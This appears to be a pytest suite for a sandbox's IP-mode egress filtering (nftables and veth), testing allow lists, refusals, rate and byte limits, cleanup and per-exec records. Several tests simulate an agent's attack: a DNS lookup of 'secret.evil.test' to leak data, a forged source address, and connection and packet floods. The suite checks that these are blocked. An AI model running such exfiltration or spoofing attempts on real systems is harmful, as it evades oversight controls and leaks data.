"""The ip mode (karotte/egress/ip.py): a veth into the sandbox, nftables rules on the host.

Root only. Every peer is in a network namespace this test makes, reached through a veth
this test makes (10.214.<n>.0/24, forwarding on its host end only): TCP servers and a
UDP server at .2, a second address .3 with the same servers. Names resolve through a
table the test holds, never real DNS."""
from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from itertools import count

import pytest

from karotte import gc, net
from karotte.egress import EgressConfigError, EgressLimits, parse_policy, static_resolver
from karotte.egress import ip
from karotte.results import EXEC_REACHES
from karotte.sandbox import Sandbox
from karotte.spec import SandboxSpec

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="the ip mode needs root"),
    pytest.mark.skipif(os.geteuid() == 0 and ip.unavailable() is not None,
                       reason=f"{ip.unavailable()}"),
]

SERVER = textwrap.dedent("""
    import socket, sys, threading
    log = open(sys.argv[1], "a", buffering=1)
    def tcp(port):
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", port)); s.listen(16)
        while True:
            c, peer = s.accept(); log.write(f"tcp {port} {c.getsockname()[0]}\\n")
            c.sendall(f"tcp{port}".encode()); c.close()
    def udp(port):
        s = socket.socket(type=socket.SOCK_DGRAM); s.bind(("0.0.0.0", port))
        while True:
            data, peer = s.recvfrom(4096); log.write(f"udp {port} {data[:40]!r}\\n")
            s.sendto(b"udp" + str(port).encode(), peer)
    def sink(c, port):  # reads to EOF (logging the count), answers the count
        n = 0
        try:
            while data := c.recv(65536):
                n += len(data)
                log.write(f"sink {port} {n}\\n")
            c.sendall(str(n).encode())
        except OSError:
            pass
        c.close()
    def source(c, port):  # sends the number of bytes asked for in the first line
        try:
            c.sendall(b"y" * int(c.recv(100).split()[0]))
        except (OSError, ValueError, IndexError):
            pass
        c.close()
    def serve(port, handle):
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", port)); s.listen(64)
        while True:
            c, peer = s.accept()
            threading.Thread(target=handle, args=(c, port), daemon=True).start()
    for p in (5432, 6000):
        threading.Thread(target=tcp, args=(p,), daemon=True).start()
    threading.Thread(target=serve, args=(7000, sink), daemon=True).start()
    threading.Thread(target=serve, args=(7001, source), daemon=True).start()
    threading.Thread(target=udp, args=(53,), daemon=True).start()
    threading.Thread(target=udp, args=(5353,), daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()
""")

# What the agent runs: one connection per argument, PROTO:ADDRESS:PORT, one line each.
CLIENT = textwrap.dedent("""
    import socket, sys
    for arg in sys.argv[1:]:
        proto, host, port = arg.split(":")
        try:
            if proto == "tcp":
                s = socket.create_connection((host, int(port)), timeout=3)
                print(arg, "ok", s.recv(100).decode())
            else:
                s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(3)
                s.sendto(b"query secret.evil.test", (host, int(port)))
                print(arg, "ok", s.recv(100).decode())
        except OSError as exc:
            print(arg, "err", type(exc).__name__)
""")

# What the agent runs to send or fetch bytes: up ADDRESS N (N bytes to the sink, which
# answers the count), down ADDRESS N (N bytes from the source), or hold ADDRESS K (K
# connections to the sink at once, kept open while it connects the next); one line each.
BYTES = textwrap.dedent("""
    import socket, sys, time
    what, host, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    t = time.monotonic()
    held = []
    try:
        if what == "hold":
            for i in range(n):
                try:
                    held.append(socket.create_connection((host, 7000), timeout=5))
                    print("conn", i, "ok")
                except OSError as exc:
                    print("conn", i, "err", type(exc).__name__)
        elif what == "up":
            s = socket.create_connection((host, 7000), timeout=20)
            s.sendall(b"x" * n); s.shutdown(socket.SHUT_WR)
            print("ok", s.recv(100).decode(), f"{time.monotonic() - t:.2f}")
        else:
            s = socket.create_connection((host, 7001), timeout=20)
            s.sendall(f"{n}\\n".encode()); got = 0
            while data := s.recv(65536):
                got += len(data)
            print("ok", got, f"{time.monotonic() - t:.2f}")
    except OSError as exc:
        print("err", type(exc).__name__, f"{time.monotonic() - t:.2f}")
""")

_peers = count(1)
REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
# 10.214.250.2 is db.test's address in the names fixture and must stay unreachable
SUBNETS = list(range(1, 250))


def _sh(*argv):
    r = subprocess.run(argv, capture_output=True, text=True)
    if r.returncode != 0:
        raise RuntimeError(f"{' '.join(argv)}: exit {r.returncode}: {r.stderr.strip()}")


class Peer:
    """A namespace of the test's own with servers on 10.214.<n>.2 and .3.

    n is taken by making the host end ktiph<n>: the kernel refuses a name that is taken,
    so two test runs on one host (or a veth left by a run that was killed) never share a
    subnet; the namespace's name holds the pid, so it is never a live run's."""

    def __init__(self, tmp, forwarding=True):
        k = next(_peers)
        self.ns = f"ktip{os.getpid()}-{k}"
        self.host_if, self.server = None, None
        _sh("ip", "netns", "add", self.ns)
        try:
            n = self._take_subnet(k)
            self.a, self.b = f"10.214.{n}.2", f"10.214.{n}.3"
            self.log = os.path.join(tmp, f"peer{n}.log")
            _sh("ip", "addr", "add", f"10.214.{n}.1/24", "dev", self.host_if)
            _sh("ip", "link", "set", self.host_if, "up")
            # the replies to the sandbox come in here and are forwarded: this interface only
            with open(f"/proc/sys/net/ipv4/conf/{self.host_if}/forwarding", "w") as f:
                f.write("1" if forwarding else "0")
            for addr in (self.a, self.b):
                _sh("ip", "-n", self.ns, "addr", "add", f"{addr}/24", "dev", "p0")
            _sh("ip", "-n", self.ns, "link", "set", "p0", "up")
            _sh("ip", "-n", self.ns, "link", "set", "lo", "up")
            self.server = subprocess.Popen(["ip", "netns", "exec", self.ns, sys.executable,
                                            "-c", SERVER, self.log], stdout=subprocess.PIPE)
            assert self.server.stdout.readline() == b"ready\n"
        except BaseException:
            self.close()
            raise

    def _take_subnet(self, k):
        """The first free n from one that moves on with each peer (a new peer does not
        meet the last one's conntrack entries)."""
        start = (os.getpid() + k) % len(SUBNETS)
        for n in SUBNETS[start:] + SUBNETS[:start]:
            r = subprocess.run(["ip", "link", "add", f"ktiph{n}", "type", "veth", "peer",
                                "name", "p0", "netns", self.ns], capture_output=True, text=True)
            if r.returncode == 0:
                self.host_if = f"ktiph{n}"
                return n
            if "exists" not in r.stderr:
                raise RuntimeError(f"ip link add ktiph{n}: {r.stderr.strip()}")
        raise RuntimeError("every ktiph<n> for 10.214.<n>.0/24 is taken on this host")

    def seen(self):
        with open(self.log) as f:
            return f.read()

    def close(self):
        if self.server is not None:
            self.server.kill()
            self.server.wait()
        if self.host_if is not None:
            subprocess.run(["ip", "link", "del", self.host_if], capture_output=True)
        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)


@pytest.fixture
def peer(tmp_path):
    p = Peer(str(tmp_path))
    yield p
    p.close()


@pytest.fixture(autouse=True)
def names(request):
    old = net.use_ip_resolver(static_resolver({"db.test": ["10.214.250.2"]}))
    yield
    net.use_ip_resolver(old)


def ip_sandbox(allow, limits=None):
    return Sandbox(SandboxSpec(network=parse_policy(allow, mode="ip", limits=limits)))


def move(sb, what, address, n):
    """BYTES in sb: its output line(s), and the exec's result."""
    r = sb.exec(["python3", "-c", BYTES, what, address, str(n)], timeout=60)
    assert r.exit_code == 0, r.stderr
    return r.stdout.decode(), r


def reach(sb, *targets):
    r = sb.exec(["python3", "-c", CLIENT, *targets], timeout=60)
    assert r.exit_code == 0, r.stderr
    return dict(line.split(" ", 1) for line in r.stdout.decode().splitlines())


def host_state(wait=True):
    """(the kip interfaces, Karotte's nft tables) on the host; wait: give the kernel up
    to 5 s to free the veths of namespaces that are gone (it does so asynchronously)."""
    deadline = time.monotonic() + (5 if wait else 0)
    while True:
        state = _host_state()
        if not state[0] or time.monotonic() > deadline:
            return state
        time.sleep(0.01)


def _host_state():
    links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout
    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    return ([line.split(":")[1].strip().split("@")[0] for line in links.splitlines()
             if line.split(":")[1].strip().startswith(ip.IFNAME_PREFIX)],
            [t for t in tables.splitlines() if "karotte-" in t])


def test_allowed_port_is_reached_other_port_and_address_refused(peer):
    with ip_sandbox([f"{peer.a}:5432", f"{peer.a}:5353"]) as sb:
        got = reach(sb, f"tcp:{peer.a}:5432", f"udp:{peer.a}:5353",
                    f"tcp:{peer.a}:6000", f"tcp:{peer.b}:5432", f"udp:{peer.a}:53")
        record = sb._core.ip.record()
    assert got[f"tcp:{peer.a}:5432"] == "ok tcp5432"
    assert got[f"udp:{peer.a}:5353"] == "ok udp5353"
    assert got[f"tcp:{peer.a}:6000"].startswith("err")
    assert got[f"tcp:{peer.b}:5432"].startswith("err")
    assert got[f"udp:{peer.a}:53"].startswith("err")
    seen = peer.seen()
    assert "tcp 5432" in seen and "udp 5353" in seen
    assert "tcp 6000" not in seen and peer.b not in seen and "udp 53 " not in seen
    reached = {(r.address, r.port, r.protocol): r for r in record.reaches}
    assert reached[(peer.a, 5432, "tcp")].allowed and reached[(peer.a, 5432, "tcp")].reason == "ok"
    udp = reached[(peer.a, 5353, "udp")]
    assert (udp.packets, udp.received_packets) == (1, 1)
    for key in ((peer.a, 6000, "tcp"), (peer.b, 5432, "tcp"), (peer.a, 53, "udp")):
        assert not reached[key].allowed and reached[key].reason == "ip_literal"
    assert record.refused_packets >= 3
    assert json.dumps(record.to_dict())


def test_EGRESS_IPDNS_01_no_query_leaves_the_sandbox(peer):
    """A secret in a name carries nothing out: the sandbox has no resolver, the host's
    resolver address is not its own, and port 53 of a reachable peer is refused."""
    with ip_sandbox([f"{peer.a}:5432"]) as sb:
        r = sb.exec(["sh", "-c", "getent hosts secret.evil.test; echo rc=$?"], timeout=60)
        got = reach(sb, f"udp:{peer.a}:53", f"tcp:{peer.a}:53")
    assert b"rc=2" in r.stdout
    assert all(v.startswith("err") for v in got.values())
    assert "53" not in peer.seen()


def test_EGRESS_IPHOST_01_the_hosts_own_addresses_are_unreachable(peer):
    """Nothing from the sandbox reaches the host itself: not its loopback (the
    sandbox's 127.0.0.1 is its own), not the veth's host end, not another address of
    the host (the peer veth's host end), even when the list names that address."""
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen(4)
    port = listener.getsockname()[1]
    try:
        with ip_sandbox([f"{peer.a}:5432", f"{peer.a.rsplit('.', 1)[0]}.1:{port}"]) as sb:
            host_end = sb._core.ip.host_address
            got = reach(sb, f"tcp:127.0.0.1:{port}", f"tcp:{host_end}:{port}",
                        f"tcp:{peer.a.rsplit('.', 1)[0]}.1:{port}")
            record = sb._core.ip.record()
        assert all(v.startswith("err") for v in got.values()), got
        refused = {(r.address, r.reason) for r in record.reaches if not r.allowed}
        assert (host_end, "internal_address") in refused
        assert (f"{peer.a.rsplit('.', 1)[0]}.1", "internal_address") in refused
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


def test_EGRESS_IPSPOOF_01_a_forged_source_address_is_refused(peer):
    """An agent that could set another source (root with CAP_NET_RAW in its namespace)
    gets nothing out: the rules accept only the sandbox's own address."""
    with ip_sandbox([f"{peer.a}:5353"]) as sb:
        link = sb._core.ip
        # the host plays the agent's forgery: a second address inside, used as source
        subprocess.run(["nsenter", "-t", str(sb._core.pid), "-n", "ip", "addr", "add",
                        "10.213.255.254/32", "dev", "eth0"], check=True)
        r = sb.exec(["python3", "-c", textwrap.dedent(f"""
            import socket
            s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(2)
            s.bind(("10.213.255.254", 0))
            s.sendto(b"forged", ("{peer.a}", 5353))
            try: print("ok", s.recv(10))
            except OSError as e: print("err", type(e).__name__)
        """)], timeout=60)
        assert link.record().refused_packets >= 1
    assert r.stdout.startswith(b"err"), r.stdout
    assert "forged" not in peer.seen()


def test_EGRESS_IPISOLATION_01_two_sandboxes_with_different_lists_stay_apart(peer):
    with ip_sandbox([f"{peer.a}:5432"]) as one, ip_sandbox([f"{peer.a}:6000"]) as two:
        assert one._core.ip.sandbox_address != two._core.ip.sandbox_address
        got_one = reach(one, f"tcp:{peer.a}:5432", f"tcp:{peer.a}:6000")
        got_two = reach(two, f"tcp:{peer.a}:5432", f"tcp:{peer.a}:6000",
                        f"tcp:{one._core.ip.sandbox_address}:5432")
    assert got_one[f"tcp:{peer.a}:5432"] == "ok tcp5432"
    assert got_one[f"tcp:{peer.a}:6000"].startswith("err")
    assert got_two[f"tcp:{peer.a}:6000"] == "ok tcp6000"
    assert got_two[f"tcp:{peer.a}:5432"].startswith("err")
    assert all(v.startswith("err") for k, v in got_two.items() if "10.213." in k)


def test_names_resolve_on_the_host_once_through_the_proxys_guard(peer):
    """A name is resolved at start; one that resolves to a private address the list
    does not name is refused by the same guard as the proxy's (DNS rebinding)."""
    net.use_ip_resolver(static_resolver({"db.test": [peer.a]}))
    with pytest.raises(EgressConfigError, match=f"internal_address.*{peer.a}"):
        ip_sandbox(["db.test:5432"])
    with ip_sandbox(["db.test:5432", f"{peer.a}:5432"]) as sb:
        assert [r.network for r in sb._core.ip.rules] == [f"{peer.a}/32"] * 2
        assert reach(sb, f"tcp:{peer.a}:5432") == {f"tcp:{peer.a}:5432": "ok tcp5432"}
    assert host_state() == ([], [])


@pytest.mark.skipif(open("/proc/sys/net/ipv4/conf/all/forwarding").read().strip() == "1",
                    reason="this host forwards on every interface")
def test_refused_when_the_replies_could_not_come_back(tmp_path):
    peer = Peer(str(tmp_path), forwarding=False)
    try:
        with pytest.raises(EgressConfigError, match=rf"{peer.host_if}.forwarding=1"):
            ip_sandbox([f"{peer.a}:5432"])
    finally:
        peer.close()
    assert host_state() == ([], [])


def test_ip_mode_takes_no_wildcards_upstreams_or_ipv6():
    for allow in (["*.example.com:22"], ["*:22"], ["[fd00::1]:22"]):
        with pytest.raises(EgressConfigError, match="ip mode"):
            parse_policy(allow, mode="ip")
    with pytest.raises(EgressConfigError, match="proxy"):
        parse_policy([], {"model": "https://api.example.com"}, mode="ip")
    with pytest.raises(EgressConfigError, match="'proxy'.*'ip'"):
        parse_policy([], mode="tun")


def test_ip_mode_has_no_proxy_listeners_or_variables(peer):
    with ip_sandbox([f"{peer.a}:5432"]) as sb:
        r = sb.exec(["sh", "-c", "env | grep -i proxy; tail -n +3 /proc/net/dev | cut -d: -f1"],
                    timeout=60)
        assert sb.egress_record() is None
    assert sorted(r.stdout.split()) == [b"eth0", b"lo"]


def test_teardown_leaves_no_interface_and_no_table(peer):
    before = host_state()
    with ip_sandbox([f"{peer.a}:5432"]) as sb:
        during = host_state(wait=False)
        assert sb._core.ip.interface in during[0]
        assert any(sb._core.ip.table in t for t in during[1])
    assert host_state() == before


def test_a_failed_start_leaves_nothing(peer, monkeypatch):
    before = host_state()
    monkeypatch.setattr(ip.IpLink, "_ruleset", lambda self, limits: "table inet bad { syntax")
    with pytest.raises(EgressConfigError, match="nftables refused"):
        ip_sandbox([f"{peer.a}:5432"])
    assert host_state() == before


TRAINER = textwrap.dedent("""
    import sys, time
    from karotte.egress import parse_policy
    from karotte.sandbox import Sandbox
    from karotte.spec import SandboxSpec
    sb = Sandbox(SandboxSpec(network=parse_policy([sys.argv[1]], mode="ip")))
    print(sb._core.ip.table, sb._core.ip.interface, flush=True)
    time.sleep(600)
""")


def test_EGRESS_IPORPHAN_01_gc_removes_what_a_killed_trainer_left(peer):
    trainer = subprocess.Popen([sys.executable, "-c", TRAINER, f"{peer.a}:5432"],
                               stdout=subprocess.PIPE)
    table, interface = trainer.stdout.readline().decode().split()
    assert any(table in t for t in host_state(wait=False)[1])
    alive = [leftover.name for leftover in gc.find() if leftover.kind == gc.NETWORK]
    assert table not in alive  # its trainer lives: not a leftover
    os.kill(trainer.pid, signal.SIGKILL)
    trainer.wait()
    found = [leftover for leftover in gc.find() if leftover.name == table]
    assert [f.kind for f in found] == [gc.NETWORK]
    assert f"nft table inet {table}" in found[0].paths
    gc_cli = os.path.join(os.path.dirname(sys.executable), "karotte-sandbox")
    r = subprocess.run([gc_cli, "gc", "--dry-run"], capture_output=True, text=True, timeout=60)
    assert f"would remove network nft table inet {table}" in r.stdout, (r.stdout, r.stderr)
    removals = gc.remove(found)  # only this test's: others' leftovers are theirs to judge
    assert [r.removed for r in removals] == [True], removals
    assert host_state() == ([], [])
    assert not [f for f in gc.find() if f.kind == gc.NETWORK]
    # the killed trainer's cgroup and directories are this test's leftovers too
    trainer_prefix = table.rsplit("-", 2)[0] + "-"
    rest = [f for f in gc.find() if f.name.startswith(trainer_prefix)]
    assert all(r.removed for r in gc.remove(rest))


def test_refused_for_a_caller_that_is_not_root():
    code = textwrap.dedent("""
        from karotte.egress import ip
        print(ip.unavailable())
    """)
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                        sys.executable, "-c", code], capture_output=True, text=True,
                       cwd=tempfile.gettempdir(), env={**os.environ, "PYTHONPATH": REPO})
    assert "needs root" in r.stdout and "proxy mode" in r.stdout, (r.stdout, r.stderr)


def test_refused_for_a_caller_that_is_not_root_at_start(monkeypatch):
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    with pytest.raises(EgressConfigError, match="needs root.*proxy mode"):
        ip_sandbox(["10.214.250.2:5432"])
    monkeypatch.undo()
    assert host_state() == ([], [])


def test_cli_exec_allow_in_ip_mode(peer):
    r = subprocess.run([os.path.join(os.path.dirname(sys.executable), "karotte-sandbox"), "exec", "--net",
                        "ip", "--allow", f"{peer.a}:5432", "--json", "--", "python3", "-c",
                        CLIENT, f"tcp:{peer.a}:5432", f"tcp:{peer.a}:6000"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout.strip().splitlines()[-1])
    assert f"tcp:{peer.a}:5432 ok tcp5432" in out["stdout"]
    assert f"tcp:{peer.a}:6000 err" in out["stdout"]
    assert out["egress"] is None
    reaches = {(x["port"], x["reason"]) for x in out["egress_ip"]["reaches"]}
    assert reaches == {(5432, "ok"), (6000, "ip_literal")}
    assert host_state() == ([], [])


def test_async_sandbox_in_ip_mode_resolves_under_a_running_loop(peer):
    """An AsyncSandbox starts under the caller's event loop, and a Sandbox may be made
    inside a coroutine: the names are still resolved once at start, by the same check."""
    import asyncio
    from karotte.sandbox import AsyncSandbox
    net.use_ip_resolver(static_resolver({"db.test": [peer.a]}))

    async def main():
        spec = SandboxSpec(network=parse_policy(["db.test:5432", f"{peer.a}:5432"], mode="ip"))
        with Sandbox(spec) as sync:
            assert sync._core.ip.rules[0].network == f"{peer.a}/32"
        async with AsyncSandbox(spec) as sb:
            r = await sb.exec(["python3", "-c", CLIENT, f"tcp:{peer.a}:5432"], timeout=60)
        return r.stdout.decode()
    assert "ok tcp5432" in asyncio.run(main())
    assert host_state() == ([], [])


def by_reason(record):
    return {(r.address, r.port, r.protocol, r.reason): r for r in record.reaches}


def test_each_exec_result_holds_what_that_exec_reached(peer):
    """ExecResult.egress_ip: what the rules counted from the exec's start to its end, an
    allowed and a refused destination named, a quiet exec empty; the sandbox's record
    holds all of them, after its close too."""
    with ip_sandbox([f"{peer.a}:5432", f"{peer.a}:7001"]) as sb:
        first = sb.exec(["python3", "-c", CLIENT, f"tcp:{peer.a}:5432", f"tcp:{peer.a}:6000"],
                        timeout=60)
        second, r2 = move(sb, "down", peer.a, 100_000)
        quiet = sb.exec(["true"])
    assert first.egress is None and "ok tcp5432" in first.stdout.decode()
    got = by_reason(first.egress_ip)
    ok = got[(peer.a, 5432, "tcp", "ok")]
    assert ok.allowed and ok.packets >= 3 and ok.received_bytes > 0  # SYN, ACK, FIN...
    refused = got[(peer.a, 6000, "tcp", "ip_literal")]
    assert not refused.allowed and refused.packets == 1
    assert set(got) == {(peer.a, 5432, "tcp", "ok"), (peer.a, 6000, "tcp", "ip_literal")}
    assert first.egress_ip.refused_packets == 1 and first.egress_ip.sent_packets == ok.packets
    assert second.startswith("ok 100000")
    down = r2.egress_ip.reaches
    assert [(r.port, r.reason) for r in down] == [(7001, "ok")]
    assert down[0].received_bytes > 100_000 and r2.egress_ip.refused_packets == 0
    assert quiet.egress_ip.reaches == () and quiet.egress_ip.sent_packets == 0
    whole = sb.ip_record()
    assert by_reason(whole)[(peer.a, 5432, "tcp", "ok")] == ok
    assert whole.sent_packets == sum(r.egress_ip.sent_packets for r in (first, r2, quiet))
    assert json.loads(json.dumps(first.egress_ip.to_dict())) == first.egress_ip.to_dict()


def test_an_exec_record_counts_a_background_process_of_an_earlier_exec(peer):
    """The rules see packets, not processes: what an earlier exec's background process
    sends while a later exec runs is in the later one's record (docs/egress.md)."""
    with ip_sandbox([f"{peer.a}:5432"]) as sb:
        first = sb.exec(["sh", "-c", f"(sleep 1; python3 -c '{CLIENT}' tcp:{peer.a}:5432 "
                                     ">/dev/null; touch /workspace/done) >/dev/null 2>&1 &"])
        later = sb.exec(["sh", "-c", "until [ -e /workspace/done ]; do sleep 0.05; done"],
                        timeout=60)
    assert first.egress_ip.reaches == ()
    assert [(r.port, r.reason) for r in later.egress_ip.reaches] == [(5432, "ok")]


def test_EGRESS_IPFLOOD_01_connections_past_max_connections_are_refused_and_named(peer):
    """The kernel counts the sandbox's connections (ct count): one past max_connections
    fails at once, and the record names "connections"; once some close, more open."""
    limits = EgressLimits(max_connections=2)
    with ip_sandbox([f"{peer.a}:7000"], limits) as sb:
        out, r = move(sb, "hold", peer.a, 4)
        again, r2 = move(sb, "hold", peer.a, 2)
    assert out.splitlines() == ["conn 0 ok", "conn 1 ok", "conn 2 err OSError",
                                "conn 3 err OSError"], out
    got = by_reason(r.egress_ip)
    assert got[(peer.a, 7000, "tcp", "connections")].packets == 2
    assert not got[(peer.a, 7000, "tcp", "connections")].allowed
    assert got[(peer.a, 7000, "tcp", "ok")].allowed
    assert again.splitlines() == ["conn 0 ok", "conn 1 ok"], again
    assert [x.reason for x in r2.egress_ip.refused] == []


def test_EGRESS_IPFLOOD_02_bytes_past_max_bytes_cut_the_connection_and_are_named(peer):
    """The quota counts both directions (quota over N bytes): an upload past it is reset
    at once, a download past it too (the sandbox's next packet is), never a hang, and so
    is every connection after; the peer got no more than the quota; the record names
    "bytes_total"."""
    limits = EgressLimits(max_bytes=300_000)
    with ip_sandbox([f"{peer.a}:7000"], limits) as sb:
        up, r_up = move(sb, "up", peer.a, 2_000_000)
    with ip_sandbox([f"{peer.a}:7001"], limits) as sb:
        down, r_down = move(sb, "down", peer.a, 2_000_000)
        after, _ = move(sb, "down", peer.a, 10)
    assert up.startswith("err ConnectionResetError") or up.startswith("err BrokenPipe"), up
    assert down.startswith("err ConnectionResetError"), down
    assert float(down.split()[-1]) < 5  # at once, not at the client's timeout
    assert after.startswith("err ConnectionRefusedError"), after
    sunk = [int(line.split()[2]) for line in peer.seen().splitlines()
            if line.startswith("sink 7000")]
    assert sunk and max(sunk) <= 300_000
    assert by_reason(r_up.egress_ip)[(peer.a, 7000, "tcp", "bytes_total")].packets >= 1
    cut = by_reason(r_down.egress_ip)[(peer.a, 7001, "tcp", "bytes_total")]
    assert not cut.allowed and cut.packets >= 1


def test_EGRESS_IPFLOOD_03_a_flood_past_bytes_per_second_is_paced_and_named(peer):
    """The kernel's token bucket (limit rate over N bytes/second, both directions): 2 MB
    at 512 KiB/s take seconds, not milliseconds; the packets over the rate are dropped,
    counted, and named "bytes_per_second"."""
    limits = EgressLimits(bytes_per_second=512 * 1024)
    with ip_sandbox([f"{peer.a}:7000", f"{peer.a}:7001"], limits) as sb:
        out, r = move(sb, "up", peer.a, 2_000_000)
        down, r_down = move(sb, "down", peer.a, 2_000_000)
    assert out.startswith("ok 2000000") and down.startswith("ok 2000000"), (out, down)
    # (2 MB - one second's bucket) / 512 KiB/s, each way
    assert float(out.split()[-1]) > 2.0 and float(down.split()[-1]) > 2.0, (out, down)
    for record, port in ((r.egress_ip, 7000), (r_down.egress_ip, 7001)):
        paced = by_reason(record)[(peer.a, port, "tcp", "bytes_per_second")]
        assert not paced.allowed and paced.packets >= 1
        assert record.refused_packets >= paced.packets


def test_EGRESS_IPISOLATION_02_two_sandboxes_with_different_limits_at_once(peer):
    """Each sandbox's limits are its own table's: one at 512 KiB/s and one connection,
    beside one with no pace and no quota, both moving 2 MB at the same time."""
    import threading
    slow_limits = EgressLimits(max_connections=1, bytes_per_second=512 * 1024)
    fast_limits = EgressLimits(bytes_per_second=None, max_bytes=None)
    with ip_sandbox([f"{peer.a}:7000"], slow_limits) as slow, \
            ip_sandbox([f"{peer.a}:7000"], fast_limits) as fast:
        results = {}

        def run(name, sb, what, n):
            results[name] = move(sb, what, peer.a, n)
        threads = [threading.Thread(target=run, args=args) for args in (
            ("slow", slow, "up", 2_000_000), ("fast", fast, "up", 2_000_000))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        held_slow, _ = move(slow, "hold", peer.a, 2)
        held_fast, _ = move(fast, "hold", peer.a, 2)
    (slow_out, slow_r), (fast_out, fast_r) = results["slow"], results["fast"]
    assert slow_out.startswith("ok 2000000") and fast_out.startswith("ok 2000000")
    assert float(slow_out.split()[-1]) > 2.0 > float(fast_out.split()[-1]), (slow_out, fast_out)
    assert (peer.a, 7000, "tcp", "bytes_per_second") in by_reason(slow_r.egress_ip)
    assert fast_r.egress_ip.refused == () and fast_r.egress_ip.refused_packets == 0
    assert held_slow.splitlines() == ["conn 0 ok", "conn 1 err OSError"]
    assert held_fast.splitlines() == ["conn 0 ok", "conn 1 ok"]


FLOOD = textwrap.dedent("""
    import socket, sys
    s = socket.socket(type=socket.SOCK_DGRAM)
    for port in range(20000, 20000 + int(sys.argv[2])):
        try:
            s.sendto(b"x", (sys.argv[1], port))
        except OSError:
            pass
""")


def test_EGRESS_IPBOUND_01_a_flood_of_refused_destinations_keeps_the_records_bounded(peer):
    """1500 refused destinations in one exec: the rules keep ENDS_KEPT per reason, the
    exec's result holds EXEC_REACHES and counts the rest, the totals count every packet."""
    with ip_sandbox([f"{peer.a}:5432"]) as sb:
        r = sb.exec(["python3", "-c", FLOOD, peer.a, "1500"], timeout=60)
    record = r.egress_ip
    assert len(record.reaches) == EXEC_REACHES
    assert record.total == ip.ENDS_KEPT  # what the kernel's set kept
    assert record.refused_packets >= 1500
    assert len(json.dumps(record.to_dict())) < 64 * 1024
    whole = sb.ip_record()
    assert len(whole.reaches) == ip.ENDS_KEPT and whole.refused_packets >= 1500


def test_the_episode_outcome_and_tool_results_carry_the_ip_record(peer, monkeypatch):
    """An episode whose environment asks for the ip mode (Network(mode="ip"), set on the
    class in the trainer's process, where it is read): each tool call's result and the
    outcome carry what the rules counted."""
    from envs.basic import Addition
    from karotte.environment import Network
    from karotte.episode import Episode
    monkeypatch.setattr(Addition, "network", Network(allow=(f"{peer.a}:5432",), mode="ip"),
                        raising=False)
    with Episode(Addition(), seed=1) as ep:
        ep.reset()
        call = ep.exec(f"python3 -c '{CLIENT}' tcp:{peer.a}:5432 tcp:{peer.a}:6000")
        outcome = ep.finish()
    assert "ok tcp5432" in call.text
    assert set(by_reason(call.egress_ip)) == {(peer.a, 5432, "tcp", "ok"),
                                              (peer.a, 6000, "tcp", "ip_literal")}
    assert set(by_reason(call.egress_ip)) <= set(by_reason(outcome.egress_ip))
    assert outcome.egress is None
    data = json.loads(json.dumps(outcome.to_dict()))
    assert {r["reason"] for r in data["egress_ip"]["reaches"]} == {"ok", "ip_literal"}
